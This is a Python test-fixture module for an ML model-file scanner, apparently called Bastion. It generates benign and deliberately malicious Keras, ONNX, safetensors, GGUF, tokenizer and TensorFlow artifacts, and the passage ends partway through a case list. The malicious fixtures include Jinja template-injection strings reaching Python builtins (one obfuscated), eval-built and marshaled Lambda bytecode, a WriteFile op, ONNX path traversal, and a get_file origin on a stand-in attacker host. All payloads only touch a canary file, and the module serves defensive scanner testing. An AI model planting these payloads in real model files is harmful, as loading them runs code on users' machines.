"""Fixtures for the non-pickle format scanners, made by the real libraries (Keras 3 on the torch
backend, onnx.helper, safetensors, gguf's GGUFWriter, TensorFlow's protobuf classes).

Same shape as ``corpus.py``: each :class:`Case` writes one artifact at a path and names the rule
Bastion must report (``None`` for benign, which must have no finding at medium or above).
Malicious fixtures only ever create the ``canary`` file if something executes them. Used by the
tests in ``tests/scan/formats/`` and by ``bench/scan_peers.py``.

    written = write_format_corpus(tmp_path / "formats", tmp_path / "CANARY")
"""

from __future__ import annotations

import json
import os
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
from tests.scan.corpus import Case, Written, write_cases

os.environ.setdefault("KERAS_BACKEND", "torch")

__all__ = [
    "FORMAT_BENIGN",
    "FORMAT_MALICIOUS",
    "LLAMA3_TEMPLATE",
    "QWEN2_TEMPLATE",
    "add_tf1_saver",
    "add_tf_saver",
    "keras_metadata_bytes",
    "keras_metadata_nodes",
    "saved_model_bytes",
    "string_const",
    "tokenizer_config",
    "write_format_corpus",
    "write_tokenizer_config",
]


# -- Keras (3, torch backend) ------------------------------------------------------------------

def _keras_model(lambda_canary: Path | None = None) -> Any:
    import keras

    inp = keras.Input((5, 4))
    x = keras.layers.TimeDistributed(keras.layers.Dense(3))(inp)
    x = keras.layers.Bidirectional(keras.layers.LSTM(4, return_sequences=True))(x)
    x = keras.layers.GlobalAveragePooling1D()(x)
    layers = [keras.Input((8,)), keras.layers.Dense(2, activation="softmax")]
    if lambda_canary is not None:
        # The attacker's lambda, nested in an inner model: on load it creates the canary.
        touch = eval(
            f"lambda t: (__import__('pathlib').Path({str(lambda_canary)!r}).touch(), t)[1]"
        )
        layers.insert(1, keras.layers.Lambda(touch))
    model = keras.Model(inp, keras.Sequential(layers)(x))
    model.compile(optimizer=keras.optimizers.SGD(0.1), loss="categorical_crossentropy",
                  metrics=["accuracy"])
    return model


def _save(model: Any, path: Path) -> None:
    with warnings.catch_warnings():
        # Keras' legacy .h5 writer trips numpy 2's __array__ copy deprecation; not our code.
        warnings.simplefilter("ignore", DeprecationWarning)
        model.save(path)


def keras_benign(path: Path, canary: Path) -> None:
    del canary
    _save(_keras_model(), path)


def keras_lambda(path: Path, canary: Path) -> None:
    _save(_keras_model(canary), path)
    canary.unlink(missing_ok=True)  # Keras traces the lambda while building: not our scanner


def _keras_edited(edit: Callable[[dict[str, Any]], None]) -> Callable[[Path, Path], None]:
    """A real ``.keras`` file whose config.json an attacker has edited."""

    def build(path: Path, canary: Path) -> None:
        del canary
        clean = path.with_name(f"_{path.name}.clean.keras")
        _save(_keras_model(), clean)
        with zipfile.ZipFile(clean) as src, zipfile.ZipFile(path, "w") as dst:
            for info in src.infolist():
                data = src.read(info)
                if info.filename == "config.json":
                    config = json.loads(data)
                    edit(config)
                    data = json.dumps(config).encode()
                dst.writestr(info, data)
        clean.unlink()

    return build


def first_object(config: object, class_name: str) -> dict[str, Any]:
    """The first object of a Keras config with this class name (depth first)."""
    stack: list[Any] = [config]
    while stack:
        node = stack.pop()
        if isinstance(node, dict):
            if node.get("class_name") == class_name:
                return node
            stack.extend(node.values())
        elif isinstance(node, list):
            stack.extend(node)
    raise LookupError(class_name)


def _external_module(config: dict[str, Any]) -> None:
    dense = first_object(config, "Dense")
    dense["module"], dense["registered_name"] = "attacker_pkg.layers", "attacker_pkg>Dense"


def _get_file(config: dict[str, Any]) -> None:
    # CVE-2025-8747: an object that is keras.utils.get_file, fetching a file on load.
    dense = first_object(config, "Dense")
    dense.update({"module": "keras.utils", "class_name": "get_file",
                  "config": {"fname": "payload", "origin": "https://attacker.invalid/x"}})


# -- ONNX ----------------------------------------------------------------------------------------

def onnx_model(op_domain: str = "") -> Any:
    """A MatMul with a weight, then an If whose then-branch holds the op under test."""
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.ones((4, 4), np.float32), "W")
    op = ("Shell", op_domain) if op_domain else ("Relu", "")
    then = helper.make_graph(
        [helper.make_node(op[0], ["m"], ["y"], domain=op[1])],
        "then", [], [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])])
    other = helper.make_graph([helper.make_node("Identity", ["m"], ["y"])], "else", [],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])])
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "W"], ["m"]),
         helper.make_node("If", ["c"], ["y"], then_branch=then, else_branch=other)],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4]),
         helper.make_tensor_value_info("c", TensorProto.BOOL, [])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])],
        [weight],
    )
    opsets = [helper.make_opsetid("", 17)]
    if op_domain:
        opsets.append(helper.make_opsetid(op_domain, 1))
    return helper.make_model(graph, opset_imports=opsets, producer_name="bastion-tests")


def onnx_benign(path: Path, canary: Path) -> None:
    import onnx

    del canary
    onnx.save(onnx_model(), path)


def onnx_custom_domain(path: Path, canary: Path) -> None:
    import onnx

    del canary
    onnx.save(onnx_model("com.attacker.ops"), path)


def onnx_external_escape(path: Path, canary: Path) -> None:
    """External data two directories up: loading reads that file (it never writes)."""
    import onnx
    from onnx.external_data_helper import set_external_data

    model = onnx_model()
    weight = model.graph.initializer[0]
    set_external_data(weight, location=f"../../{canary.name}")
    weight.ClearField("raw_data")
    onnx.save(model, path)


# -- safetensors ---------------------------------------------------------------------------------

def safetensors_benign(path: Path, canary: Path) -> None:
    from safetensors.numpy import save_file

    del canary
    save_file({"weight": np.ones((8, 4), np.float32), "bias": np.zeros(4, np.float16),
               "steps": np.arange(3, dtype=np.int64)}, path, metadata={"format": "np"})


def retouch_header(path: Path, edit: Callable[[dict[str, Any]], None],
                   length: int | None = None) -> None:
    """Rewrite a real safetensors file's header as an attacker would (data left in place)."""
    raw = path.read_bytes()
    size = struct.unpack("<Q", raw[:8])[0]
    header = json.loads(raw[8 : 8 + size])
    edit(header)
    text = json.dumps(header).encode()
    text += b" " * (-len(text) % 8)
    path.write_bytes(struct.pack("<Q", length if length is not None else len(text)) + text
                     + raw[8 + size :])


def _safetensors_corrupt(edit: Callable[[dict[str, Any]], None],
                         length: int | None = None) -> Callable[[Path, Path], None]:
    def build(path: Path, canary: Path) -> None:
        safetensors_benign(path, canary)
        retouch_header(path, edit, length)

    return build


def _overlap(header: dict[str, Any]) -> None:
    begin = header["weight"]["data_offsets"][0]  # 128 bytes: room for steps' 24
    header["steps"]["data_offsets"] = [begin, begin + 24]


def _out_of_bounds(header: dict[str, Any]) -> None:
    header["weight"]["data_offsets"] = [10**9, 10**9 + 128]


def _bad_dtype(header: dict[str, Any]) -> None:
    header["bias"]["dtype"] = "PYOBJ"


# -- GGUF ----------------------------------------------------------------------------------------

BENIGN_TEMPLATE = (
    "{% for message in messages %}{% if message['role'] == 'system' %}<<SYS>>{{ message['content']"
    " | trim }}<</SYS>>{% elif message['role'] == 'user' %}[INST] {{ message['content'] }} [/INST]"
    "{% else %}{{ message['content'] }}{{ eos_token }}{% endif %}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|assistant|>' }}{% endif %}"
)
# Rendered by plain Jinja, each creates the canary through Python's builtins.
MALICIOUS_TEMPLATE = (
    "{% for message in messages %}{{ message['content'] }}{% endfor %}"
    "{{ cycler.__init__.__globals__.__builtins__['open']('CANARY', 'w').close() }}"
)
OBFUSCATED_TEMPLATE = (
    "{% set g = '__glo' ~ 'bals__' %}{{ (lipsum|attr(g))['__builtins__']['open']('CANARY', 'w')"
    " }}"
)


def write_gguf(path: Path, template: str) -> None:
    """A tiny llama-architecture GGUF with a token list, two tensors and a chat template."""
    import gguf

    writer = gguf.GGUFWriter(path, "llama")
    writer.add_block_count(1)
    writer.add_context_length(128)
    writer.add_token_list(["<s>", "</s>", "hello"])
    writer.add_token_scores([0.0, 0.0, -1.5])
    writer.add_chat_template(template)
    writer.add_tensor("token_embd.weight", np.zeros((3, 8), np.float32))
    writer.add_tensor("output_norm.weight", np.ones(8, np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()


def _gguf(template: str) -> Callable[[Path, Path], None]:
    def build(path: Path, canary: Path) -> None:
        write_gguf(path, template.replace("CANARY", str(canary)))

    return build


# -- Hugging Face tokenizer_config.json (transformers is not installed) ----------------------------

# Meta-Llama-3-8B-Instruct's chat_template, verbatim.
LLAMA3_TEMPLATE = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = "
    "'<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | "
    "trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}"
    "{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}"
)
# Qwen2-7B-Instruct's (ChatML with a default system prompt), verbatim.
QWEN2_TEMPLATE = (
    "{% for message in messages %}{% if loop.first and messages[0]['role'] != 'system' %}"
    "{{ '<|im_start|>system\nYou are a helpful assistant<|im_end|>\n' }}{% endif %}"
    "{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
)


def tokenizer_config(template: object) -> dict[str, Any]:
    """Meta-Llama-3-8B-Instruct's tokenizer_config.json, with ``template`` as its chat_template:
    its 256 special tokens in ``added_tokens_decoder`` (about 50 kB before the template)."""
    named = {0: "<|begin_of_text|>", 1: "<|end_of_text|>", 6: "<|start_header_id|>",
             7: "<|end_header_id|>", 9: "<|eot_id|>"}
    reserved = iter(range(251))
    decoder = {str(128000 + i): {
        "content": named.get(i) or f"<|reserved_special_token_{next(reserved)}|>",
        "lstrip": False, "normalized": False, "rstrip": False, "single_word": False,
        "special": True} for i in range(256)}
    return {"added_tokens_decoder": decoder, "bos_token": "<|begin_of_text|>",
            "chat_template": template, "clean_up_tokenization_spaces": True,
            "eos_token": "<|eot_id|>", "model_input_names": ["input_ids", "attention_mask"],
            "model_max_length": 1000000000000000019884624838656,
            "tokenizer_class": "PreTrainedTokenizerFast"}


def write_tokenizer_config(path: Path, template: object) -> None:
    """As transformers' ``save_pretrained`` writes it: indent 2, sorted keys, UTF-8, newline."""
    text = json.dumps(tokenizer_config(template), indent=2, sort_keys=True, ensure_ascii=False)
    path.write_text(text + "\n", encoding="utf-8")


def _tokenizer(template: object, named: bool = False) -> Callable[[Path, Path], None]:
    def build(path: Path, canary: Path) -> None:
        value = template.replace("CANARY", str(canary)) if isinstance(template, str) \
            else template
        if named:
            value = [{"name": "default", "template": LLAMA3_TEMPLATE},
                     {"name": "tool_use", "template": value}]
        write_tokenizer_config(path, value)

    return build


# -- TensorFlow SavedModel (protobuf classes shipped by tensorboard; TensorFlow not installed) --

def _saved_model_class() -> Any:
    """The ``SavedModel`` message (saved_model.proto: schema version + MetaGraphDefs), declared
    on top of tensorboard's real ``MetaGraphDef``; tensorboard ships every other TF proto."""
    from google.protobuf import descriptor_pb2, descriptor_pool, message_factory
    from tensorboard.compat.proto import meta_graph_pb2

    pool = descriptor_pool.Default()
    try:
        descriptor = pool.FindMessageTypeByName("tensorboard.SavedModel")
    except KeyError:
        proto = descriptor_pb2.FileDescriptorProto(
            name="bastion_tests/saved_model.proto", package="tensorboard", syntax="proto3",
            dependency=[meta_graph_pb2.DESCRIPTOR.name])
        message = proto.message_type.add(name="SavedModel")
        message.field.add(name="saved_model_schema_version", number=1, type=3, label=1)
        message.field.add(name="meta_graphs", number=2, type=11, label=3,
                          type_name=".tensorboard.MetaGraphDef")
        pool.Add(proto)
        descriptor = pool.FindMessageTypeByName("tensorboard.SavedModel")
    return message_factory.GetMessageClass(descriptor)


def string_const(nodes: Any, name: str, value: str) -> Any:
    """A scalar string ``Const`` node added to ``nodes`` (a GraphDef's or FunctionDef's)."""
    node = nodes.add(name=name, op="Const")
    node.attr["dtype"].type = 7  # DT_STRING
    node.attr["value"].tensor.dtype = 7
    node.attr["value"].tensor.string_val.append(value.encode())
    return node


def _int_const(nodes: Any, name: str, value: int) -> None:
    node = nodes.add(name=name, op="Const")
    node.attr["dtype"].type = 3  # DT_INT32
    node.attr["value"].tensor.dtype = 3
    node.attr["value"].tensor.int_val.append(value)


def add_tf_saver(meta: Any, *, save: str = "__inference__traced_save_99",
                 restore: str = "__inference__traced_restore_100",
                 variables: tuple[str, ...] = ("dense/kernel", "dense/bias")) -> None:
    """The checkpoint functions ``tf.saved_model.save`` writes, node for node as TensorFlow
    2.9-2.21 emit them (``functional_saver.MultiDeviceSaver``: ``_traced_save`` and
    ``_traced_restore``), called from the graph through ``StatefulPartitionedCall_1``/``_2``
    with the ``saver_filename`` placeholder that ``saver_def`` names as their first argument."""
    graph = meta.graph_def
    graph.node.add(name="saver_filename", op="Placeholder").attr["dtype"].type = 7
    call = graph.node.add(name="StatefulPartitionedCall_1", op="StatefulPartitionedCall",
                          input=["saver_filename", *(f"{v}/Read/ReadVariableOp"
                                                     for v in variables), "Const"])
    call.attr["f"].func.name = save
    call = graph.node.add(name="StatefulPartitionedCall_2", op="StatefulPartitionedCall",
                          input=["saver_filename", *variables])
    call.attr["f"].func.name = restore
    meta.saver_def.filename_tensor_name = "saver_filename:0"
    meta.saver_def.save_tensor_name = "StatefulPartitionedCall_1:0"
    meta.saver_def.restore_op_name = "StatefulPartitionedCall_2"
    meta.saver_def.version = 2  # V2

    fn = graph.library.function.add()
    fn.signature.name = save
    reads = [f"savev2_{v.replace('/', '_')}_read_readvariableop" for v in variables]
    for arg in ["file_prefix", *reads, "savev2_const"]:
        fn.signature.input_arg.add(name=arg, type=7 if arg == "file_prefix" else 1)
    fn.signature.output_arg.add(name="identity_1", type=7)
    nodes = fn.node_def
    nodes.add(name="StaticRegexFullMatch", op="StaticRegexFullMatch", input=["file_prefix"]) \
        .attr["pattern"].s = b"^s3://.*"
    string_const(nodes, "Const", ".part")
    string_const(nodes, "Const_1", "_temp/part")
    nodes.add(name="Select", op="Select", input=[
        "StaticRegexFullMatch:output:0", "Const:output:0", "Const_1:output:0"])
    nodes.add(name="StringJoin", op="StringJoin", input=["file_prefix", "Select:output:0"]) \
        .attr["N"].i = 2
    _int_const(nodes, "num_shards", 1)
    _int_const(nodes, "ShardedFilename/shard", 0)
    nodes.add(name="ShardedFilename", op="ShardedFilename", input=[
        "StringJoin:output:0", "ShardedFilename/shard:output:0", "num_shards:output:0"])
    string_const(nodes, "SaveV2/tensor_names", "layer/kernel/.ATTRIBUTES/VARIABLE_VALUE")
    string_const(nodes, "SaveV2/shape_and_slices", "")
    nodes.add(name="SaveV2", op="SaveV2", input=[
        "ShardedFilename:filename:0", "SaveV2/tensor_names:output:0",
        "SaveV2/shape_and_slices:output:0", *reads, "savev2_const"])
    nodes.add(name="MergeV2Checkpoints/checkpoint_prefixes", op="Pack",
              input=["ShardedFilename:filename:0", "^SaveV2"])
    nodes.add(name="MergeV2Checkpoints", op="MergeV2Checkpoints", input=[
        "MergeV2Checkpoints/checkpoint_prefixes:output:0", "file_prefix"]) \
        .attr["delete_old_dirs"].b = True
    nodes.add(name="Identity", op="Identity", input=["file_prefix", "^MergeV2Checkpoints"])
    nodes.add(name="Identity_1", op="Identity", input=["Identity:output:0", "^NoOp"])
    nodes.add(name="NoOp", op="NoOp", input=["^MergeV2Checkpoints"])
    fn.ret["identity_1"] = "Identity_1:output:0"

    fn = graph.library.function.add()
    fn.signature.name = restore
    assigns = [f"assignvariableop_{i}_{v.replace('/', '_')}" for i, v in enumerate(variables)]
    for arg in ["file_prefix", *assigns]:
        fn.signature.input_arg.add(name=arg, type=7 if arg == "file_prefix" else 20)
    nodes = fn.node_def
    string_const(nodes, "RestoreV2/tensor_names", "layer/kernel/.ATTRIBUTES/VARIABLE_VALUE")
    string_const(nodes, "RestoreV2/shape_and_slices", "")
    nodes.add(name="RestoreV2", op="RestoreV2", input=[
        "file_prefix", "RestoreV2/tensor_names:output:0", "RestoreV2/shape_and_slices:output:0"])
    for i, arg in enumerate(assigns):
        nodes.add(name=f"Identity_{i}", op="Identity", input=[f"RestoreV2:tensors:{i}"])
        nodes.add(name=f"AssignVariableOp_{i}", op="AssignVariableOp",
                  input=[arg, f"Identity_{i}:output:0"])
    nodes.add(name="NoOp", op="NoOp")
    nodes.add(name="Identity_9", op="Identity", input=[
        "file_prefix", *(f"^AssignVariableOp_{i}" for i in range(len(assigns))), "^NoOp"])


def add_tf1_saver(meta: Any, default: str = "model") -> None:
    """The ``save/`` ops a TF1 ``tf.compat.v1.train.Saver(sharded=True)`` adds to the graph
    (``BaseSaverBuilder._build_internal``): ``save/Const`` is the filename the loader feeds."""
    nodes = meta.graph_def.node
    string_const(nodes, "save/filename/input", default)
    nodes.add(name="save/filename", op="PlaceholderWithDefault", input=["save/filename/input"])
    nodes.add(name="save/Const", op="PlaceholderWithDefault", input=["save/filename"])
    string_const(nodes, "save/StringJoin/inputs_1", "_temp_6f1c2e9ab0f34c7e/part")
    nodes.add(name="save/StringJoin", op="StringJoin",
              input=["save/Const", "save/StringJoin/inputs_1"])
    _int_const(nodes, "save/num_shards", 1)
    _int_const(nodes, "save/ShardedFilename/shard", 0)
    nodes.add(name="save/ShardedFilename", op="ShardedFilename", input=[
        "save/StringJoin", "save/ShardedFilename/shard", "save/num_shards"])
    string_const(nodes, "save/SaveV2/tensor_names", "w")
    string_const(nodes, "save/SaveV2/shape_and_slices", "")
    nodes.add(name="save/SaveV2", op="SaveV2", input=[
        "save/ShardedFilename", "save/SaveV2/tensor_names", "save/SaveV2/shape_and_slices",
        "w"])
    nodes.add(name="save/control_dependency", op="Identity",
              input=["save/ShardedFilename", "^save/SaveV2"])
    nodes.add(name="save/MergeV2Checkpoints/checkpoint_prefixes", op="Pack",
              input=["save/control_dependency"])
    nodes.add(name="save/MergeV2Checkpoints", op="MergeV2Checkpoints", input=[
        "save/MergeV2Checkpoints/checkpoint_prefixes", "save/Const"])
    nodes.add(name="save/Identity", op="Identity",
              input=["save/Const", "^save/MergeV2Checkpoints", "^save/control_dependency"])
    string_const(nodes, "save/RestoreV2/tensor_names", "w")
    string_const(nodes, "save/RestoreV2/shape_and_slices", "")
    nodes.add(name="save/RestoreV2", op="RestoreV2", input=[
        "save/Const", "save/RestoreV2/tensor_names", "save/RestoreV2/shape_and_slices"])
    nodes.add(name="save/Assign", op="Assign", input=["w", "save/RestoreV2"])
    nodes.add(name="save/restore_shard", op="NoOp", input=["^save/Assign"])
    nodes.add(name="save/restore_all", op="NoOp", input=["^save/restore_shard"])
    meta.saver_def.filename_tensor_name = "save/Const:0"
    meta.saver_def.save_tensor_name = "save/Identity:0"
    meta.saver_def.restore_op_name = "save/restore_all"


def saved_model_bytes(extra: Callable[[Any], None] | None = None) -> bytes:
    """A SavedModel like TF2 writes for a dense layer: variables, a serving function, and the
    standard traced save/restore functions; ``extra`` adds the attacker's part."""
    model = _saved_model_class()(saved_model_schema_version=1)
    meta = model.meta_graphs.add()
    meta.meta_info_def.tags.append("serve")
    meta.meta_info_def.tensorflow_version = "2.16.1"
    graph = meta.graph_def
    for name, op in [("serving_default_x", "Placeholder"), ("dense/kernel", "VarHandleOp"),
                     ("dense/bias", "VarHandleOp"),
                     ("dense/kernel/Read/ReadVariableOp", "ReadVariableOp"),
                     ("dense/bias/Read/ReadVariableOp", "ReadVariableOp"),
                     ("StatefulPartitionedCall", "StatefulPartitionedCall")]:
        node = graph.node.add(name=name, op=op)
        if op == "StatefulPartitionedCall":
            node.attr["f"].func.name = "__inference_serving_12"
    string_const(graph.node, "Const", "object graph")  # _CHECKPOINTABLE_OBJECT_GRAPH, in TF
    serving = graph.library.function.add()
    serving.signature.name = "__inference_serving_12"
    for name, op in [("MatMul/ReadVariableOp", "ReadVariableOp"), ("MatMul", "MatMul"),
                     ("BiasAdd", "BiasAdd"), ("Relu", "Relu"), ("Identity", "Identity")]:
        serving.node_def.add(name=name, op=op)
    add_tf_saver(meta)
    user = meta.object_graph_def.nodes.add()
    user.user_object.identifier = "_tf_keras_layer"
    user.user_object.metadata = json.dumps(
        {"class_name": "Dense", "config": {"name": "dense", "units": 4, "activation": "relu"}})
    if extra is not None:
        extra(meta)
    return bytes(model.SerializeToString())


def _write_file_op(canary: Path) -> Callable[[Any], None]:
    """WriteFile(path=canary, contents=""): run by TensorFlow, it creates the canary."""

    def add(meta: Any) -> None:
        graph = meta.graph_def
        name = graph.node.add(name="path", op="Const")
        name.attr["value"].tensor.dtype = 7  # DT_STRING
        name.attr["value"].tensor.string_val.append(str(canary).encode())
        graph.node.add(name="payload", op="Const")
        graph.node.add(name="drop", op="WriteFile", input=["path", "payload"])

    return add


def _fake_traced_save(canary: Path) -> Callable[[Any], None]:
    """A function named like TF's traced save whose SaveV2 writes next to the canary's path
    (TF would create ``CANARY.index``); its name once made it trusted."""

    def add(meta: Any) -> None:
        fn = meta.graph_def.library.function.add()
        fn.signature.name = "__inference__traced_save_7"
        string_const(fn.node_def, "path", str(canary))
        string_const(fn.node_def, "names", "x")
        fn.node_def.add(name="SaveV2", op="SaveV2", input=["path:output:0", "names:output:0"])
        call = meta.graph_def.node.add(name="StatefulPartitionedCall_3",
                                       op="StatefulPartitionedCall")
        call.attr["f"].func.name = "__inference__traced_save_7"

    return add


def _py_func(canary: Path) -> Callable[[Any], None]:
    del canary

    def add(meta: Any) -> None:
        function = meta.graph_def.library.function.add()
        function.signature.name = "__inference_call_7"
        function.node_def.add(name="callback", op="EagerPyFunc").attr["token"].s = b"pyfunc_0"

    return add


def _keras_metadata_lambda(canary: Path) -> Callable[[Any], None]:
    """tf.keras metadata of a legacy Lambda layer whose bytecode touches the canary."""
    import base64
    import marshal

    code = compile(f"__import__('pathlib').Path({str(canary)!r}).touch()", "<lambda>", "eval")

    def add(meta: Any) -> None:
        user = meta.object_graph_def.nodes.add()
        user.user_object.identifier = "_tf_keras_layer"
        user.user_object.metadata = json.dumps({"class_name": "Lambda", "config": {
            "name": "lambda", "function_type": "lambda",
            "function": [base64.encodebytes(marshal.dumps(code)).decode(), None, None]}})

    return add


def _saved_model(extra: Callable[[Path], Callable[[Any], None]] | None) -> Callable[[Path, Path],
                                                                                   None]:
    """A SavedModel directory at ``path`` (saved_model.pb plus an empty variables/)."""

    def build(path: Path, canary: Path) -> None:
        (path / "variables").mkdir(parents=True)
        (path / "saved_model.pb").write_bytes(
            saved_model_bytes(extra(canary) if extra else None))

    return build


# -- tf.keras keras_metadata.pb (SavedMetadata; tf_keras is not installed) ------------------------

_TF_KERAS_PACKAGE = "third_party.py.tf_keras.protobuf"


def _saved_metadata_class() -> Any:
    """``SavedMetadata`` and ``SavedObject`` as ``tf_keras/protobuf/saved_metadata.proto``
    declares them, built on the real protobuf runtime (``version`` is TensorFlow's ``VersionDef``,
    the same fields as tf_keras' copy, taken from tensorboard)."""
    from google.protobuf import descriptor_pb2, descriptor_pool, message_factory
    from tensorboard.compat.proto import versions_pb2

    pool = descriptor_pool.Default()
    try:
        descriptor = pool.FindMessageTypeByName(f"{_TF_KERAS_PACKAGE}.SavedMetadata")
    except KeyError:
        proto = descriptor_pb2.FileDescriptorProto(
            name="bastion_tests/saved_metadata.proto", package=_TF_KERAS_PACKAGE,
            syntax="proto3", dependency=[versions_pb2.DESCRIPTOR.name])
        message = proto.message_type.add(name="SavedMetadata")
        message.field.add(name="nodes", number=1, type=11, label=3,
                          type_name=f".{_TF_KERAS_PACKAGE}.SavedObject")
        node = proto.message_type.add(name="SavedObject")
        node.reserved_range.add(start=1, end=2)
        node.field.add(name="node_id", number=2, type=5, label=1)
        node.field.add(name="node_path", number=3, type=9, label=1)
        node.field.add(name="identifier", number=4, type=9, label=1)
        node.field.add(name="metadata", number=5, type=9, label=1)
        node.field.add(name="version", number=6, type=11, label=1,
                       type_name=".tensorboard.VersionDef")
        pool.Add(proto)
        descriptor = pool.FindMessageTypeByName(f"{_TF_KERAS_PACKAGE}.SavedMetadata")
    return message_factory.GetMessageClass(descriptor)


def _lambda_config(canary: Path) -> dict[str, Any]:
    """A tf.keras ``Lambda.get_config()`` for a lambda whose bytecode creates the canary:
    ``function`` is ``generic_utils.func_dump`` (base64 of marshal, defaults, closure)."""
    import base64
    import marshal

    code = compile(f"lambda t: (__import__('pathlib').Path({str(canary)!r}).touch(), t)[1]",
                   "<lambda>", "eval").co_consts[0]
    return {"name": "lambda", "trainable": True, "dtype": "float32",
            "function": [base64.encodebytes(marshal.dumps(code)).decode(), None, None],
            "function_type": "lambda", "module": "__main__", "output_shape": None,
            "output_shape_type": "raw", "output_shape_module": None, "arguments": {}}


def keras_metadata_nodes(canary: Path | None = None) -> list[tuple[str, str, dict[str, Any]]]:
    """(node_path, identifier, metadata) of ``Sequential([Input((8,)), (Lambda,) Dense(2)])``.

    The JSON is what tf.keras 2.x writes, per its source (keras-team/tf-keras,
    ``saving/legacy/saved_model/layer_serialization.py`` ``_python_properties_internal`` plus
    ``serialize_keras_object``; ``model_serialization.py`` adds ``is_graph_network``, the save
    specs and ``saving_utils.model_metadata``: ``keras_version``, ``backend``, ``model_config``,
    ``training_config``; ``save.py`` ``generate_keras_metadata`` sets paths and identifiers).
    """
    dense = {"name": "dense", "trainable": True, "dtype": "float32", "units": 2,
             "activation": "softmax", "use_bias": True,
             "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None},
                                    "shared_object_id": 2},
             "bias_initializer": {"class_name": "Zeros", "config": {}, "shared_object_id": 3},
             "kernel_regularizer": None, "bias_regularizer": None,
             "activity_regularizer": None, "kernel_constraint": None, "bias_constraint": None}
    layers: list[dict[str, Any]] = [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 8],
                                                "dtype": "float32", "sparse": False,
                                                "ragged": False, "name": "input_1"}}]
    if canary is not None:
        layers.append({"class_name": "Lambda", "config": _lambda_config(canary)})
    layers.append({"class_name": "Dense", "config": dense})
    model = {"name": "sequential", "layers": layers}
    shape = {"class_name": "TensorShape", "items": [None, 8]}
    common = {"trainable": True, "expects_training_arg": False, "dtype": "float32",
              "batch_input_shape": None, "stateful": False, "must_restore_from_config": False,
              "preserve_input_structure_in_config": False, "autocast": True}
    root = {"name": "sequential", **common, "class_name": "Sequential", "config": model,
            "shared_object_id": 1, "build_input_shape": shape, "is_graph_network": True,
            "full_save_spec": {"class_name": "__tuple__", "items": [[{
                "class_name": "TypeSpec", "type_spec": "tf.TensorSpec",
                "serialized": [{"class_name": "TensorShape", "items": [None, 8]}, "float32",
                               "input_1"]}], {}]},
            "keras_version": "2.10.0", "backend": "tensorflow",
            "model_config": {"class_name": "Sequential", "config": model},
            "training_config": {"loss": "categorical_crossentropy", "metrics": [[{
                "class_name": "MeanMetricWrapper", "config": {
                    "name": "accuracy", "dtype": "float32", "fn": "categorical_accuracy"}}]],
                "weighted_metrics": None, "loss_weights": None,
                "optimizer_config": {"class_name": "SGD", "config": {
                    "name": "SGD", "learning_rate": 0.1, "decay": 0.0, "momentum": 0.0,
                    "nesterov": False}}}}
    nodes = [("root", "_tf_keras_sequential", root)]
    for i, layer in enumerate(layers[1:]):
        path = "root.layer_with_weights-0" if layer["class_name"] == "Dense" else f"root.layer-{i}"
        nodes.append((path, "_tf_keras_layer", {
            **common, "name": layer["config"]["name"], "class_name": layer["class_name"],
            "config": layer["config"], "shared_object_id": 4 + i, "build_input_shape": shape}))
    nodes.append(("root.keras_api.metrics.0", "_tf_keras_metric", {
        "class_name": "Mean", "name": "loss", "dtype": "float32",
        "config": {"name": "loss", "dtype": "float32"}, "shared_object_id": 9}))
    return nodes


def keras_metadata_bytes(nodes: list[tuple[str, str, Any]]) -> bytes:
    """``keras_metadata.pb`` as tf.keras serializes it (deterministic, version producer 2)."""
    message = _saved_metadata_class()()
    for node_id, (path, identifier, metadata) in enumerate(nodes):
        node = message.nodes.add(node_id=node_id, node_path=path, identifier=identifier,
                                 metadata=metadata if isinstance(metadata, str)
                                 else json.dumps(metadata))
        node.version.producer, node.version.min_consumer = 2, 1
    return bytes(message.SerializeToString(deterministic=True))


def _tf_keras_saved_model(lambda_layer: bool) -> Callable[[Path, Path], None]:
    """A tf.keras SavedModel directory: saved_model.pb, variables/ and keras_metadata.pb."""

    def build(path: Path, canary: Path) -> None:
        _saved_model(None)(path, canary)
        nodes = keras_metadata_nodes(canary if lambda_layer else None)
        (path / "keras_metadata.pb").write_bytes(keras_metadata_bytes(nodes))

    return build


FORMAT_BENIGN: tuple[Case, ...] = (
    Case("keras_benign.keras", "keras", keras_benign),
    Case("keras_benign.h5", "keras", keras_benign),
    Case("onnx_benign.onnx", "onnx", onnx_benign),
    Case("safetensors_benign.safetensors", "safetensors", safetensors_benign),
    Case("gguf_benign.gguf", "gguf", _gguf(BENIGN_TEMPLATE)),
    Case("savedmodel_benign", "savedmodel", _saved_model(None)),
    Case("savedmodel_tf_keras_benign", "savedmodel", _tf_keras_saved_model(False)),
    Case("tokenizer_config_llama3.json", "tokenizer", _tokenizer(LLAMA3_TEMPLATE)),
    Case("tokenizer_config_named_templates.json", "tokenizer",
         _tokenizer([{"name": "default", "template": LLAMA3_TEMPLATE},
                     {"name": "chatml", "template": QWEN2_TEMPLATE}])),
)

FORMAT_MALICIOUS: tuple[Case, ...] = (
    Case("keras_lambda.keras", "keras", keras_lambda, "keras.lambda.bytecode",
         {"class_name": "__lambda__"}),
    Case("keras_lambda.h5", "keras", keras_lambda, "keras.lambda.bytecode",
         {"class_name": "__lambda__"}),
    Case("keras_external_module.keras", "keras", _keras_edited(_external_module),
         "keras.module.external", {"module": "attacker_pkg.layers"}),
    Case("keras_get_file.keras", "keras", _keras_edited(_get_file), "keras.api.unsafe",
